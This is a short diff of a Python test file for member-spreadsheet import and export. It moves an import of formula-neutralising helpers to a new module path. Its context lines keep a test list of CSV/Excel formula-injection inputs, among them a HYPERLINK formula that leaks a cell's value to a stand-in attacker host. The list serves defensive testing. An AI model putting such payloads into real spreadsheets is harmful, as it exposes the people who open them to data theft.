@@ -10,7 +10,7 @@ from sqlalchemy import select
 
 from core.members import guess_mapping, plan_import, read_table
 from core.models import Member
-from core.xlsx import FORMULA_STARTS, neutralise, restore
+from core.reports.xlsx import FORMULA_STARTS, neutralise, restore
 from tests.helpers.web import add_user
 
 NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
